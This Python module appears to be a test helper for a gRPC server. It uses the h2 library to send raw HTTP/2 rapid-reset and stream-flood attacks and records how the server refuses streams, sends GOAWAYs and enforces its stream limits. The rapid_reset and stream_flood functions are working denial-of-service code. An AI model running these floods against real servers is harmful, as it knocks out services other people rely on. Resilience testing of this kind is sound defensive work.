"""HTTP/2-level attacks on a gRPC server, written with the `h2` library (no gRPC client
library would send these frames): rapid reset and stream floods.

Each attack runs in a child process (`run_in_process`), so its Python work does not
compete with the test's well-behaved caller for the test process's GIL; it reports what
the server did to it (streams sent, refused, connections closed, GOAWAYs received).
"""

from __future__ import annotations

import contextlib
import multiprocessing
import os
import socket
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

from seqserve.v1 import seqserve_pb2 as pb

PREDICT = "/seqserve.v1.SeqServe/Predict"
WATCH = "/grpc.health.v1.Health/Watch"


@dataclass
class Report:
    """What one attack did and what the server answered."""

    streams: int = 0  # streams opened (HEADERS sent)
    resets_sent: int = 0
    refused: int = 0  # RST_STREAM from the server (REFUSED_STREAM, ENHANCE_YOUR_CALM, ...)
    goaways: int = 0
    connections: int = 0
    open_streams_max: int = 0  # most streams the server let this client hold open at once
    max_concurrent_streams: int | None = None  # the server's SETTINGS value
    errors: list[str] = field(default_factory=list)


def grpc_message(message: bytes) -> bytes:
    """A gRPC length-prefixed message: uncompressed flag, 4-byte big-endian length, bytes."""
    return b"\x00" + len(message).to_bytes(4, "big") + message


def predict_body(model: str = "echo_vanilla") -> bytes:
    request = pb.PredictRequest(
        model=model, inputs=[pb.Input(ints=pb.Ints(values=[0, 1, 7, 3, 4]))]
    )
    return grpc_message(request.SerializeToString())


class Peer:
    """One raw HTTP/2 connection to host:port (plaintext, prior knowledge)."""

    def __init__(self, host: str, port: int, report: Report) -> None:
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        config = h2.config.H2Configuration(client_side=True, header_encoding=None)
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.initiate_connection()
        self.report = report
        self.closed = False
        self.open: set[int] = set()
        report.connections += 1
        self.flush()

    def headers(
        self, method: str, authority: str, extra: tuple[str, str] | None = None
    ) -> list[tuple[bytes, bytes]]:
        headers = [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", method.encode()),
            (b":authority", authority.encode()),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
        return headers if extra is None else [*headers, (extra[0].encode(), extra[1].encode())]

    def start(
        self,
        method: str,
        body: bytes,
        authority: str,
        end: bool = True,
        extra: tuple[str, str] | None = None,
    ) -> int:
        stream = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream, self.headers(method, authority, extra))
        self.conn.send_data(stream, body, end_stream=end)
        self.open.add(stream)
        self.report.streams += 1
        self.report.open_streams_max = max(self.report.open_streams_max, len(self.open))
        return stream

    def reset(self, stream: int) -> None:
        self.conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
        self.open.discard(stream)
        self.report.resets_sent += 1

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            try:
                self.sock.sendall(data)
            except OSError:
                self.closed = True

    def pump(self, wait: float = 0.0) -> None:
        """Read and handle whatever the server sent (waiting up to `wait` seconds)."""
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        while not self.closed:
            try:
                data = self.sock.recv(1 << 16)
            except (TimeoutError, BlockingIOError):
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            try:
                events = self.conn.receive_data(data)
            except h2.exceptions.ProtocolError as exc:
                self.report.errors.append(repr(exc))
                self.closed = True
                return
            for event in events:
                self._handle(event)
            self.flush()
            self.sock.settimeout(0.0001)

    def _handle(self, event: Any) -> None:
        if isinstance(event, h2.events.StreamReset):
            if event.remote_reset:
                self.report.refused += 1
            self.open.discard(event.stream_id)
        elif isinstance(event, h2.events.StreamEnded):
            self.open.discard(event.stream_id)
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.report.goaways += 1
            self.closed = True
        elif isinstance(event, h2.events.RemoteSettingsChanged):
            changed = event.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
            if changed is not None:
                self.report.max_concurrent_streams = changed.new_value
        elif isinstance(event, h2.events.DataReceived):
            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def rapid_reset(host: str, port: int, seconds: float, burst: int = 50) -> Report:
    """Open `burst` Predict streams (no token), reset them at once, repeat; reconnect
    whenever the server closes the connection."""
    report = Report()
    body = predict_body()
    authority = f"{host}:{port}"
    deadline = time.monotonic() + seconds
    peer: Peer | None = None
    while time.monotonic() < deadline:
        if peer is None or peer.closed:
            if peer is not None:
                peer.close()
            try:
                peer = Peer(host, port, report)
            except OSError as exc:
                report.errors.append(repr(exc))
                time.sleep(0.01)
                continue
        try:
            streams = [peer.start(PREDICT, body, authority) for _ in range(burst)]
            for stream in streams:
                peer.reset(stream)
        except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError) as exc:
            report.errors.append(type(exc).__name__)
            peer.closed = True
            continue
        peer.flush()
        peer.pump()
    if peer is not None:
        peer.close()
    return report


def stream_flood(
    host: str,
    port: int,
    method: str,
    body: bytes,
    count: int,
    extra: tuple[str, str] | None = None,
) -> Report:
    """Open `count` streams on one connection and hold them open (never end them);
    `extra`: one more header (e.g. the token)."""
    report = Report()
    peer = Peer(host, port, report)
    authority = f"{host}:{port}"
    peer.pump(0.5)  # the server's SETTINGS (its stream limit) arrive first
    for _ in range(count):
        if peer.closed:
            break
        try:
            peer.start(method, body, authority, end=False, extra=extra)
        except (h2.exceptions.TooManyStreamsError, h2.exceptions.ProtocolError):
            break  # the server's limit, enforced by h2 on our side already
        peer.flush()
        peer.pump()
    peer.pump(1.0)
    peer.close()
    return report


def _child(queue: Any, attack: Callable[..., Report], args: tuple[Any, ...]) -> None:
    os.nice(19)  # the attacker stands for another machine: its own CPU use is not the server's
    queue.put(attack(*args))


def run_in_process(attack: Callable[..., Report], *args: Any) -> Callable[[], Report]:
    """Start `attack(*args)` in a child process; returns a function that waits for its
    report."""
    context = multiprocessing.get_context("fork")
    queue = context.Queue()
    process = context.Process(target=_child, args=(queue, attack, args), daemon=True)
    process.start()

    def result(timeout: float = 120.0) -> Report:
        report: Report = queue.get(timeout=timeout)
        process.join(10)
        return report

    return result
